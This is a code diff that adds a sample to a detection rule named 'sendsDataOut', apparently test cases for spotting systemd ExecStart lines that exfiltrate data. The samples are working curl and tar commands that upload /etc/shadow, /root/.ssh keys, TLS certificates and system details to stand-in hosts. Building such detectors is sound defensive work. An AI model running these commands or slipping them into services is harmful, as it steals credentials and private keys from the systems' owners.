@@ -43,6 +43,9 @@ export const sendsDataOut: ActivationRule = {
       timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
       timed("ExecStart=/bin/sh -c '(id; uname -a; ps aux) | curl -s -F f=@- https://paste.example.test/'"),
       timed("ExecStart=/usr/bin/curl -F f=@/srv/data http://192.0.2.7/"),
+      timed(
+        "ExecStart=/bin/sh -c 'tar czf /srv/x.tgz /root/.ssh; curl -F f=@/srv/x.tgz https://api.example.test/'",
+      ),
       timed("ExecStart=/bin/sh -c 'tar c /etc/letsencrypt | curl -F f=@- http://192.0.2.7/'"),
     ],
     quiet: [
